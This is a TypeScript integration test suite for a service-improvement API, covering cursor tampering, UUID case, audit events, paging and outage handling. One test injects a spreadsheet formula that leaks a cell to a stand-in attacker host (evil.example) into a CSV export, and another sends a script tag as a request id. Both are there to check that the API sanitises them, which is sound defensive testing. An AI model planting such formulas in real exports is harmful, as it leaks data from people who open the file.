import { randomUUID } from 'node:crypto';
import type { AddressInfo } from 'node:net';
import type { NestFastifyApplication } from '@nestjs/platform-fastify';
import { parse } from 'csv-parse/sync';
import { findFreePort } from '@app/local-stack';
import { createApiApp } from '../../apps/api/src/create-api-app';
import { ApiSettings } from '../../apps/api/src/platform/api-settings';
import { expectOk, gap, startCycleOnNewService } from '../support/cycle-steps';
import { queryDatabase } from '../support/database';
import { createArea, createService } from '../support/factories';
import { HttpClient } from '../support/http-client';
import { testEnvironment } from '../support/test-environment';
import type { TestStack } from '../support/test-stack';
import { startTestStack } from '../support/test-stack';
import { users } from '../support/users';

const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;
const cursorOf = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');

describe('small defects of issue "No input, policy or caller can freeze a cycle"', () => {
  let stack: TestStack;
  beforeAll(async () => {
    stack = await startTestStack();
  });
  afterAll(async () => {
    await stack.close();
  });

  type Caller = { sub: string; roles: typeof users.auditor.roles };
  const read = async (path: string, as: Caller = users.auditor) =>
    expectOk(await stack.http.get(path, { as })).body;
  const put = async (path: string, body: unknown, as: Caller = users.improver) =>
    expectOk(await stack.http.request('PUT', path, { as, body })).body;

  const createKpi = async (serviceId: string) =>
    expectOk(
      await stack.http.post(
        `/v1/services/${serviceId}/kpis`,
        { name: 'Days', unit: 'days', direction: 'lower_is_better', baseline: 9, target: 2 },
        { as: users.improver },
      ),
      201,
    ).body as { id: string };

  it('answers a tampered list cursor with 400 naming the cursor field, on every list', async () => {
    const kpi = await createKpi((await createService(stack.http)).id);
    const tampered = [
      'garbage',
      Buffer.from('junk, not a cursor').toString('base64'),
      cursorOf(['1', '-'.repeat(36)]),
      cursorOf(['-271821-04-20T00:00:00.000Z', randomUUID()]),
      cursorOf(['2026-01-01T00:00:00.000Z', 'z'.repeat(36)]),
    ];
    const lists = ['/v1/cycles', '/v1/areas', '/v1/services', '/v1/approvals/pending'];
    for (const path of [...lists, `/v1/kpis/${kpi.id}`]) {
      for (const cursor of tampered) {
        const answer = await stack.http.get(`${path}?cursor=${encodeURIComponent(cursor)}`, {
          as: { sub: 'mia', roles: [...users.manager.roles, ...users.auditor.roles] },
        });
        expect([path, cursor, answer.status]).toEqual([path, cursor, 400]);
        expect(answer.headers.get('content-type')).toContain('application/problem+json');
        expect(answer.body.errors).toEqual([expect.objectContaining({ field: 'cursor' })]);
      }
    }
  });

  it('treats an upper-case UUID as the same id everywhere', async () => {
    const provider = await createArea(stack.http, 'back');
    const consumer = await createArea(stack.http, 'front');
    const service = expectOk(
      await stack.http.post(
        '/v1/services',
        {
          name: `service ${randomUUID()}`,
          providerAreaId: provider.id.toUpperCase(),
          consumerAreaIds: [consumer.id.toUpperCase()],
        },
        { as: users.improver },
      ),
      201,
    ).body;
    expect(service).toMatchObject({ providerAreaId: provider.id, consumerAreaIds: [consumer.id] });

    const SERVICE = service.id.toUpperCase();
    const started = expectOk(
      await stack.http.post('/v1/cycles', { serviceId: SERVICE }, { as: users.improver }),
      202,
    ).body;
    const ID = started.id.toUpperCase();
    expect(await read(`/v1/cycles/${ID}`)).toMatchObject({ id: started.id, serviceId: service.id });
    // The workflow and the audit chain are found through the upper-case id too.
    await put(`/v1/cycles/${ID}/gap`, gap());
    const history = (await read(`/v1/cycles/${ID}/history`)).items;
    expect(history.map((event: { action: string }) => event.action)).toEqual(
      expect.arrayContaining(['cycle_started', 'gap_recorded']),
    );
    expect(await read(`/v1/cycles/${ID}/history/verify`)).toMatchObject({
      valid: true,
      events: history.length,
    });
    const listed = (await read(`/v1/cycles?serviceId=${SERVICE}`)).items;
    expect(listed.map((cycle: { id: string }) => cycle.id)).toEqual([started.id]);

    const again = await stack.http.post(
      '/v1/cycles',
      { serviceId: service.id },
      { as: users.improver },
    );
    expect(again.status).toBe(409);
  });

  it('records every one of concurrent criteria changes on the catalog chain', async () => {
    const service = await createService(stack.http);
    const sharedRequestId = `retry-${randomUUID()}`;
    const changes = [1, 2, 3, 4].map((value) => ({
      strategyImpact: value,
      marginsInvolved: value,
      easeOfTransformation: value,
    }));
    const answers = await Promise.all(
      changes.map((body, index) =>
        stack.http.request('PUT', `/v1/services/${service.id}/criteria`, {
          as: users.improver,
          body,
          // A caller reusing its request id must not fold two changes into one event.
          ...(index < 2 ? { headers: { 'x-request-id': sharedRequestId } } : {}),
        }),
      ),
    );
    expect(answers.map((answer) => answer.status)).toEqual([200, 200, 200, 200]);
    const events = await queryDatabase<{ data: { after: { strategyImpact: number } } }>(
      `SELECT data FROM audit_events
       WHERE chain = 'catalog' AND action = 'service_criteria_set' AND data->>'serviceId' = $1`,
      [service.id],
    );
    expect(events.map((event) => event.data.after.strategyImpact).sort()).toEqual([1, 2, 3, 4]);
  });

  it('exports formula-like cells of the CSV history as text', async () => {
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
    const { id } = await startCycleOnNewService(stack.http);
    await put(
      `/v1/cycles/${id}/gap`,
      { ...gap(), statement: formula },
      { ...users.improver, sub: formula },
    );
    const csv = await stack.http.get(`/v1/cycles/${id}/history?format=csv`, { as: users.auditor });
    // RFC 4180 as a spreadsheet reads it: quoted fields, doubled quotes, CRLF rows.
    const [header, ...rows] = parse(csv.body as string);
    const cells = (row: string[] | undefined) =>
      Object.fromEntries((header ?? []).map((name, index) => [name, row?.[index] ?? '']));
    const gapRow = cells(rows.find((row) => row.includes('gap_recorded')));
    expect(gapRow.actorId).toBe(`'${formula}`);
    expect(JSON.parse(gapRow.data ?? '').gap.statement).toBe(formula);
    for (const row of rows) {
      for (const cell of row) {
        expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });

  it('keeps a caller’s X-Request-ID only when it is a short token of safe characters', async () => {
    const idOf = async (requestId: string) =>
      (await stack.http.get('/health', { headers: { 'x-request-id': requestId } })).headers.get(
        'x-request-id',
      );
    expect(await idOf('<script>')).toMatch(UUID);
    expect(await idOf('a'.repeat(65))).toMatch(UUID);
    expect(await idOf('trace:2026-11.abc_1')).toBe('trace:2026-11.abc_1');
    expect(await idOf('b'.repeat(64))).toBe('b'.repeat(64));
  });

  it('reads a KPI and a cycle’s evidence with the latest 100 measurements, paging the rest', async () => {
    const service = await createService(stack.http);
    const kpi = await createKpi(service.id);
    await queryDatabase(
      `INSERT INTO kpi_measurements (kpi_id, value, measured_at, source)
       SELECT $1, n, timestamptz '2026-01-01T00:00:00Z' + n * interval '1 hour', 'bulk'
       FROM generate_series(1, 104) AS n`,
      [kpi.id],
    );
    expectOk(
      await stack.http.post(
        `/v1/kpis/${kpi.id}/measurements`,
        { value: 3, measuredAt: '2026-12-01T00:00:00.000Z' },
        { as: users.improver },
      ),
      201,
    );

    const first = await read(`/v1/kpis/${kpi.id}`);
    expect(first).toMatchObject({ measurementCount: 105, latestValue: 3, trend: 'improving' });
    expect(first.measurements).toHaveLength(100);
    expect(first.measurements[0].value).toBe(3);
    expect(first.measurements[1].value).toBe(104);
    const rest = await read(`/v1/kpis/${kpi.id}?cursor=${first.nextCursor}`);
    expect(rest).toMatchObject({ measurementCount: 105, latestValue: 3, nextCursor: null });
    expect(rest.measurements.map((row: { value: number }) => row.value)).toEqual([5, 4, 3, 2, 1]);
    const ids = [...first.measurements, ...rest.measurements].map((row: { id: string }) => row.id);
    expect(new Set(ids).size).toBe(105);
    const small = await read(`/v1/kpis/${kpi.id}?limit=2`);
    expect(small.measurements.map((row: { value: number }) => row.value)).toEqual([3, 104]);
    for (const limit of ['0', '1001', 'many']) {
      expect(
        (await stack.http.get(`/v1/kpis/${kpi.id}?limit=${limit}`, { as: users.auditor })).status,
      ).toBe(400);
    }

    const cycle = expectOk(
      await stack.http.post('/v1/cycles', { serviceId: service.id }, { as: users.improver }),
      202,
    ).body;
    await put(`/v1/cycles/${cycle.id}/gap`, gap(kpi.id));
    const evidence = await read(`/v1/cycles/${cycle.id}/evidence`);
    expect(evidence.kpi).toMatchObject({ id: kpi.id, measurementCount: 105, latestValue: 3 });
    expect(evidence.kpi.measurements).toHaveLength(100);
    expect(evidence.kpi.measurements[0].value).toBe(3);
  });

  it('pages the approval inbox, oldest wait first, without repeating a cycle', async () => {
    const waiting: string[] = [];
    for (let i = 0; i < 3; i += 1) {
      const { id } = await startCycleOnNewService(stack.http);
      await put(`/v1/cycles/${id}/gap`, gap());
      expectOk(await stack.http.post(`/v1/cycles/${id}/submit`, {}, { as: users.improver }));
      waiting.push(id);
    }
    // Other test files share the database: walk the whole inbox, two at a time.
    // A wait is a gate's or, in another test's cycle, a roadmap change's.
    const seen: { id: string; pendingApproval: any; pendingRoadmapChange?: any }[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const query: string = cursor ? `&cursor=${cursor}` : '';
      const page = await read(`/v1/approvals/pending?limit=2${query}`, users.manager);
      expect(page.items.length).toBeLessThanOrEqual(2);
      seen.push(...page.items);
      cursor = page.nextCursor;
      pages += 1;
    } while (cursor && pages < 1_000);

    expect(pages).toBeGreaterThanOrEqual(2);
    const ids = seen.map((cycle) => cycle.id);
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids.filter((id) => waiting.includes(id))).toEqual(waiting);
    const since = (c: (typeof seen)[number]) =>
      c.pendingApproval?.submittedAt ?? c.pendingRoadmapChange?.proposedAt;
    const waits = seen.map((cycle) => Date.parse(since(cycle)));
    expect(waits).toEqual([...waits].sort((a, b) => a - b));
  });

  it('answers 503 problem+json with Retry-After when Temporal is out of reach', async () => {
    const closedPort = await findFreePort();
    const settings = new ApiSettings({
      ...stack.settings,
      temporalAddress: `127.0.0.1:${closedPort}`,
    });
    const app: NestFastifyApplication = await createApiApp(settings, false);
    try {
      await app.listen(0, '127.0.0.1');
      const { port } = app.getHttpServer().address() as AddressInfo;
      const cut = new HttpClient(`http://127.0.0.1:${port}`, testEnvironment().jwtSecret);
      const service = await createService(cut);

      const start = await cut.post('/v1/cycles', { serviceId: service.id }, { as: users.improver });
      expect(start.status).toBe(503);
      expect(start.headers.get('content-type')).toContain('application/problem+json');
      expect(start.body).toMatchObject({ status: 503, title: 'Service Unavailable' });
      expect(Number(start.headers.get('retry-after'))).toBeGreaterThan(0);
      const cycles = await cut.get(`/v1/cycles?serviceId=${service.id}`, { as: users.auditor });
      expect(cycles.body.items).toEqual([]);
    } finally {
      await app.close();
    }
  });
});
